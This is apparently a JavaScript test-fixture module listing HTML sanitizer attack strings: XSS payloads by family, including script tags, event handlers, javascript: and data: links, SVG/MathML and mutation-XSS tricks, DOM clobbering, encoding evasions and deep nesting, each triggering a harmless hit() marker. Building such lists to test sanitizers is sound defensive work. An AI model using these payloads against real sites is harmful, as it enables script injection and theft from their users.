// @ts-check
// HTML that tries to run something, by kind. Each calls `hit()` or asks for /hit if it gets its way. A list for anyone to extend.
// Families: OWASP's filter evasion list, mutation XSS (Heiderich et al. 2013), and what sanitizers were caught by since.

const run = 'hit()';
const link = 'javascript:hit()';

/** @type {Record<string, string>} */
export const attacks = {
  'script': `<script>${run}</script>`,
  'script in capitals and spaces': `<ScRiPt\n>${run}</sCrIpT\t>`,
  'script from here': '<script src="/hit.js"></script>',
  'script within script': `<scr<script>ipt>${run}</scr</script>ipt>`,
  'module': `<script type=module>${run}</script>`,
  'handler': `<img src=x onerror="${run}"><p onclick="${run}" onmouseover=${run}>over</p>`,
  'handler behind odd separators': `<img/src=x/onerror=${run}><img\x0csrc=x\x0conerror=${run}><svg/onload=${run}>`,
  'handler after a broken quote': `<img alt="\`><img src=x onerror=${run}>" src=y><a title='"><img src=x onerror=${run}>'>t</a>`,
  'handlers that need no load': `<details open ontoggle=${run}>d</details><video onloadstart=${run}><source></video><input autofocus onfocus=${run}><marquee onstart=${run}>m</marquee><body onload=${run}><div style="animation-name:x" onanimationstart=${run}></div>`,
  'script link': `<a href="${link}">a</a><a href=" \x01${link}">b</a><a href="java\tscript:hit()">c</a><a href="java&#10;script:hit()">d</a><a href="&#106;avascript&colon;hit()">e</a><a href="JaVaScRiPt:hit()">f</a>`,
  'script link in every attribute that loads': `<img src="${link}"><form action="${link}"><button formaction="${link}">x</button></form><object data="${link}"></object><embed src="${link}"><iframe src="${link}"></iframe><base href="${link}//"><link rel=stylesheet href="${link}"><table background="${link}"><tr><td background="${link}">t</td></tr></table>`,
  'data link': '<a href="data:text/html,<script>hit()</script>">a</a><iframe src="data:text/html,<script>parent.hit()</script>"></iframe><object data="data:text/html,<script>parent.hit()</script>"></object><img src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\' onload=\'hit()\'/>">',
  'vbscript and view-source': '<a href="vbscript:hit()">v</a><a href="view-source:javascript:hit()">s</a><a href="blob:x">b</a><a href="filesystem:x">f</a>',
  'frame with a document': `<iframe srcdoc="<script>parent.${run}</script>"></iframe><frameset onload=${run}></frameset>`,
  'meta refresh': `<meta http-equiv=refresh content="0;url=${link}"><meta http-equiv="refresh" content="0;url=/hit">`,
  'style': `<style>@import '/hit.css'; body { background: url(/hit.png) } * { visibility: hidden }</style><p style="background:url(/hit.png);position:fixed;inset:0">s</p><link rel=stylesheet href=/hit.css>`,
  'svg': `<svg><script>${run}</script><a xlink:href="${link}"><text>x</text></a><animate attributeName=href values="${link}"/><foreignObject><iframe src="${link}"></iframe></foreignObject><set attributeName=onmouseover to=${run}><use href="data:image/svg+xml,<svg id=x onload=hit()>#x"></svg>`,
  'mathml': `<math><mtext><table><mglyph><style><img src=x onerror=${run}></style></mglyph></table></mtext><maction actiontype=statusline xlink:href="${link}">m</maction></math>`,
  'mutation: noscript, title, textarea': `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript><title><p title="</title><img src=x onerror=${run}>"></title><textarea><p title="</textarea><img src=x onerror=${run}>">`,
  'mutation: namespace confusion': `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}></style></mglyph></form></mtext></math>`,
  'mutation: svg style and comments': `<svg></p><style><a id="</style><img src=1 onerror=${run}>"></style></svg><svg><![CDATA[><img src=x onerror=${run}>]]></svg><!--><img src=x onerror=${run}>--><!--! --!><img src=x onerror=${run}> -->`,
  'mutation: template and select': `<template><img src=x onerror=${run}></template><select><template><img src=x onerror=${run}></template><style></select><img src=x onerror=${run}></style>`,
  'mutation: plaintext, xmp, noembed': `<xmp><p title="</xmp><img src=x onerror=${run}>"></xmp><noembed><img title="</noembed><img src=x onerror=${run}>"></noembed><noframes><b title="</noframes><img src=x onerror=${run}>"></noframes>`,
  'entities': `&lt;script&gt;${run}&lt;/script&gt; &#60;img src=x onerror=${run}&#62; &ltscript>${run}&lt/script> &amp;lt;script&amp;gt;${run}`,
  'unicode': `<\u017fcript>${run}</\u017fcript><img src=x on\u0435rror=${run}>\u003cscript\u003e${run}\u003c/script\u003e\uff1cscript\uff1e${run}\uff1c/script\uff1e<a href="javascript\u2028:hit()">u</a>`,
  'control characters': `<scr\0ipt>${run}</scr\0ipt><img src=x o\0nerror=${run}><a href="\0javascript:hit()">n</a><a href="java\0script:hit()">m</a>`,
  'clobbering': '<form id=document><input name=createElement></form><img name=body><a id=main>x</a><a id=canvas>y</a><p id="document">z</p><img id=live name=querySelector><input name=__proto__>',
  'custom elements and slots': `<x-y onclick=${run} is=z>x</x-y><slot onslotchange=${run}>s</slot><dialog open oncancel=${run}>d</dialog><a href=# onclick=${run}>h</a><div popover id=p onbeforetoggle=${run}>p</div><button popovertarget=p>b</button>`,
  'nesting': '<div>'.repeat(3000) + `<img src=x onerror=${run}>` + '</div>'.repeat(10),
  'nested lists': '<ul><li>'.repeat(500) + `<script>${run}</script>deep`,
  'unclosed': `<p>text <a href="https://example.org/" title="<img src=x onerror=${run}`,
  'doctype and processing instructions': `<!doctype html [<!ENTITY x "<script>${run}</script>">]>&x;<?xml-stylesheet href="${link}"?><?php ${run} ?><!ELEMENT img onerror=${run}>`,
  'import maps and preloads': `<script type=importmap>{"imports":{"x":"/hit.js"}}</script><link rel=modulepreload href=/hit.js><link rel=preload as=script href=/hit.js><link rel=prefetch href=/hit.js><link rel=manifest href=/hit>`,
  'third party': '<img src="https://hit.invalid/x.png"><img srcset="https://hit.invalid/y.png 2x" src="//hit.invalid/z.png"><video poster="//hit.invalid/p.png" src="//hit.invalid/v.mp4"></video><picture><source srcset="/hit.png"><img src="/hit2.png"></picture>',
};

/** Short ones for places that hold plain words: titles, names, tags. */
export const wordAttacks = [`<img src=x onerror=${run}>`, `"><script>${run}</script>`, `</title><script>${run}</script>`, `' onmouseover='${run}`, `{{text:skip}}</script><script>${run}</script>`, `\u202e</a><img src=x onerror=${run}>`];
